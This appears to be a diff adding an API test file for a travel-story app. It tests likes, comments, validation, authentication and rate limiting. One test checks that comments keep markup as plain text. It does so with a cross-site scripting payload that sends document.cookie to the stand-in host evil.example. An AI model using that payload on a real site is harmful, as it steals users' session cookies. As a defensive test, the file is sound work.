@@ -1,0 +1,97 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { STORY_LIMITS, storyTexts, type StoryComment } from '@mt/shared';
+import { bearer, buildTestApp, type TestApp } from '../../test/app';
+import { createTraveller, type Person } from '../../test/factories';
+import { createStory, uniqueDestination } from './story-test-helpers';
+
+let t: TestApp;
+let author: Person;
+beforeAll(async () => {
+  t = await buildTestApp();
+  author = await createTraveller(t.app);
+});
+afterAll(() => t.close());
+
+const like = (id: number | string, token: string | null, action: unknown = 'like') =>
+  t.app.inject({ method: 'POST', url: `/api/stories/${id}/like`, payload: { action }, headers: token ? bearer(token) : {} });
+const comment = (id: number | string, token: string | null, content: unknown) =>
+  t.app.inject({ method: 'POST', url: `/api/stories/${id}/comments`, payload: { content }, headers: token ? bearer(token) : {} });
+const comments = async (id: number) => (await t.app.inject({ method: 'GET', url: `/api/stories/${id}/comments` })).json<{ data: StoryComment[] }>().data;
+
+describe('POST /api/stories/:id/like', () => {
+  it('counts a second like once and unlikes idempotently', async () => {
+    const story = await createStory(t.app, author.token, { destination: uniqueDestination() });
+    const fan = await createTraveller(t.app);
+    expect((await like(story.id, fan.token)).json()).toEqual({ success: true, data: { like_count: 1, userHasLiked: true } });
+    expect((await like(story.id, fan.token)).json().data).toEqual({ like_count: 1, userHasLiked: true });
+    expect((await like(story.id, author.token)).json().data).toEqual({ like_count: 2, userHasLiked: true });
+    expect((await like(story.id, fan.token, 'unlike')).json().data).toEqual({ like_count: 1, userHasLiked: false });
+    expect((await like(story.id, fan.token, 'unlike')).json().data).toEqual({ like_count: 1, userHasLiked: false });
+  });
+
+  it('counts 10 parallel likes by one user once', async () => {
+    const story = await createStory(t.app, author.token, { destination: uniqueDestination() });
+    const fan = await createTraveller(t.app);
+    const results = await Promise.all(Array.from({ length: 10 }, () => like(story.id, fan.token)));
+    for (const r of results) expect(r.statusCode).toBe(200);
+    const got = await t.app.inject({ method: 'GET', url: `/api/stories/${story.id}` });
+    expect(got.json().data.story.like_count).toBe(1);
+  });
+
+  it('answers 401 without a token, 400 for a bad action or id, 404 for a missing story', async () => {
+    const story = await createStory(t.app, author.token, { destination: uniqueDestination() });
+    expect((await like(story.id, null)).statusCode).toBe(401);
+    expect((await like(story.id, 'forged.token.value')).statusCode).toBe(401);
+    for (const action of ['love', '', 1, null]) expect((await like(story.id, author.token, action)).statusCode).toBe(400);
+    expect((await like('abc', author.token)).statusCode).toBe(400);
+    const missing = await like(987654321, author.token);
+    expect(missing.statusCode).toBe(404);
+    expect(missing.json().message).toBe(storyTexts.storyNotFound);
+  });
+});
+
+describe('comments', () => {
+  it('adds a comment (201) and lists comments newest first with the author', async () => {
+    const story = await createStory(t.app, author.token, { destination: uniqueDestination() });
+    const reader = await createTraveller(t.app, { name: 'Kofi Reader' });
+    const first = await comment(story.id, reader.token, '  First!  ');
+    expect(first.statusCode).toBe(201);
+    expect(first.json().data).toMatchObject({ id: expect.any(Number), author_name: 'Kofi Reader', author_avatar: null, content: 'First!' });
+    await comment(story.id, author.token, 'Thanks');
+    expect((await comments(story.id)).map((c) => [c.author_name, c.content])).toEqual([
+      [author.user.name, 'Thanks'],
+      ['Kofi Reader', 'First!'],
+    ]);
+    const got = await t.app.inject({ method: 'GET', url: `/api/stories/${story.id}` });
+    expect(got.json().data.story.comment_count).toBe(2);
+  });
+
+  it('keeps markup as plain text', async () => {
+    const story = await createStory(t.app, author.token, { destination: uniqueDestination() });
+    const evil = '<script>document.location="https://evil.example/?"+document.cookie</script>';
+    await comment(story.id, author.token, evil);
+    expect((await comments(story.id))[0]!.content).toBe(evil);
+  });
+
+  it('refuses blank, over-long, missing or non-text content and anonymous callers', async () => {
+    const story = await createStory(t.app, author.token, { destination: uniqueDestination() });
+    for (const content of ['', '   \n ', 'x'.repeat(STORY_LIMITS.comment + 1), undefined, 42, ['a']]) {
+      const res = await comment(story.id, author.token, content);
+      expect(res.statusCode, String(content).slice(0, 20)).toBe(400);
+      expect(res.json().message).toEqual(expect.any(String));
+    }
+    expect((await comment(story.id, author.token, 'x'.repeat(STORY_LIMITS.comment))).statusCode).toBe(201);
+    expect((await comment(story.id, null, 'hello')).statusCode).toBe(401);
+    expect((await comment(987654321, author.token, 'hello')).statusCode).toBe(404);
+    expect((await t.app.inject({ method: 'GET', url: '/api/stories/987654321/comments' })).statusCode).toBe(404);
+    expect((await t.app.inject({ method: 'GET', url: '/api/stories/x/comments' })).statusCode).toBe(400);
+  });
+
+  it('limits comments per user (429 after 20 in 10 minutes)', async () => {
+    const story = await createStory(t.app, author.token, { destination: uniqueDestination() });
+    const chatty = await createTraveller(t.app);
+    for (let i = 0; i < 20; i++) expect((await comment(story.id, chatty.token, `c${i}`)).statusCode).toBe(201);
+    expect((await comment(story.id, chatty.token, 'one more')).statusCode).toBe(429);
+    expect((await comment(story.id, author.token, 'still fine')).statusCode).toBe(201);
+  });
+});
